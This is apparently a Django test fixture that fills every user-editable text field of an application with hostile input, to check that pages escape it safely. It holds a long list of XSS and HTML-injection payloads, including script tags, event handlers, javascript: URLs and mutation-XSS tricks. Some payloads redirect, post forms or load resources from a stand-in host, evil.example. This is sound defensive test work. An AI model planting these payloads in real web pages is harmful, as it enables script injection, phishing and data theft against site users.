"""The world of `tests.access`, in which every text that a person can write is an attack.

Written past the services, as if each of their checks had failed: what is shown must be safe by itself.
"""

import csv
import io
from datetime import datetime
from typing import Any

from django.apps import apps
from django.db import connection, models

from tests.access.world import World, build
from vigente.accounts.guards import AUDIT
from vigente.billing.guards import CASES, MONEY, drop_sql, guard_sql
from vigente.billing.models import CustomerImport, Invoice, InvoiceLine, LedgerEntry, MoneyEntry, Order
from vigente.installation.models import Installation
from vigente.tickets.models import HeldRequest, Message, Ticket
from vigente.workspace.import_words import headings

TEXT = "'\"><xss-tag onxss=1><img src=x onerror=alert(1)><svg/onload=alert(2)>{{7*7}}<script>alert(3)</script>\u202e"
HTML = """
<p>Hola</p><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>
<a href="javascript:alert(4)">a</a><xss-tag onxss=1>b</xss-tag><a href="JaVa\tScRiPt:alert(5)">c</a>
<a href="data:text/html,<script>alert(6)</script>">d</a><base href="//evil.example/">
<div style="position:fixed;inset:0;z-index:9999" id="main" class="button" onclick="alert(7)">e</div>
<form action="//evil.example/"><input name="csrfmiddlewaretoken"><button id="submit">f</button></form>
<iframe srcdoc="<script>alert(8)</script>"></iframe><meta http-equiv="refresh" content="0;url=//evil.example">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(9)&gt;"></math>
<noscript><p title="</noscript><img src=x onerror=alert(10)>"></noscript><style>body{display:none}</style>
<div hx-get="/es/" hx-trigger="load" hx-on:click="alert(11)" data-hx-on="x">g</div>
<object data="x"></object><embed src="x"><link rel="stylesheet" href="//evil.example/x.css">
<img src="//evil.example/pixel.gif"><img src="cid:x" onload=alert(12)><a name="location" href="vbscript:x">h</a>
"""
# Names of ours that pages look things up by, not texts of people.
TECHNICAL = {
    "key", "token", "digest", "path", "sha256", "prefix", "code", "kind", "status", "role", "language", "time_zone",
    "currency", "source", "channel", "queue", "months", "family", "message_id", "dedupe_key", "cid", "content_type",
    "hosting", "interval", "on_renewal", "draw_by", "password", "last_reply_by", "outcome", "header_id", "auth_host",
    "depends_option",
}  # fmt: skip
PARTY = ("name", "tax_id", "address", "phone", "email", "website", "country")
NAME_IN_A_CATALOGUE = 80  # no longer one can be imported
IN_LANGUAGES = ("names", "texts", "pattern_error")  # what a person wrote, by language
APPS = ("accounts", "automation", "billing", "installation", "mail", "sla", "tickets", "webhooks", "worker")

GUARDS = (*CASES, *MONEY, *AUDIT)


def build_hostile(now: datetime) -> World:
    """Every field of every row, whatever fields there are."""
    Installation.objects.get_or_create(id=1)
    world = build(now)
    with connection.cursor() as cursor:  # as if not even the database had kept its promises
        for statement in drop_sql(connection.vendor, GUARDS):
            cursor.execute(statement)
    for model in apps.get_models():
        if model._meta.app_label in APPS and model not in (LedgerEntry, MoneyEntry):
            for row in model._base_manager.all():
                _poison(row)
    _poison_invoices()
    _poison_imports()
    with connection.cursor() as cursor:
        for statement in guard_sql(connection.vendor, GUARDS):
            cursor.execute(statement)
    for model in (Message, HeldRequest):
        model.objects.update(
            **{field.name: HTML for field in model._meta.fields if field.name.endswith("html")}
        )
    for case in Ticket.objects.all():
        for reason in case.decision["reasons"]:
            reason["params"] = reason.get("params", {}) | {"reason": TEXT, "work": TEXT}
        Ticket.objects.filter(pk=case.pk).update(decision=case.decision)
    return world


def _poison_invoices() -> None:
    """What an invoice or order keeps as JSON: names, addresses, what its lines say."""
    label = {"code": "other", "params": {"text": TEXT}}
    Invoice.objects.update(buyer=dict.fromkeys(PARTY, TEXT), seller=dict.fromkeys(PARTY, TEXT))
    InvoiceLine.objects.update(
        label=label, discount_code=TEXT[:40], discount_minor=1, discount_basis_points=1
    )
    for order in Order.objects.all():
        Order.objects.filter(pk=order.pk).update(lines=[line | {"label": label} for line in order.lines])


def _poison_imports() -> None:
    """A table somebody sent: what is not one is refused at the door, so its cells are what attacks."""
    table = io.StringIO()
    names = list(headings().values())
    csv.writer(table).writerows([names, [TEXT] * len(names)])
    CustomerImport.objects.update(text=table.getvalue())


def _poison(row: models.Model) -> None:
    values: dict[str, Any] = {}
    for field in row._meta.fields:
        text = isinstance(field, models.CharField | models.TextField) and not isinstance(
            field, models.EmailField
        )
        if (
            text
            and not field.choices
            and field.name not in TECHNICAL
            and not isinstance(field, models.SlugField)
        ):
            start = f"{row.pk}" if field.unique else ""
            most = field.max_length or len(start + TEXT)
            if row._meta.app_label == "billing":
                most = min(most, NAME_IN_A_CATALOGUE)
            values[field.name] = (start + TEXT)[:most]
        if field.name in IN_LANGUAGES and isinstance(field, models.JSONField):
            values[field.name] = {"es": TEXT, "en": TEXT}
    if values:
        type(row)._base_manager.filter(pk=row.pk).update(**values)
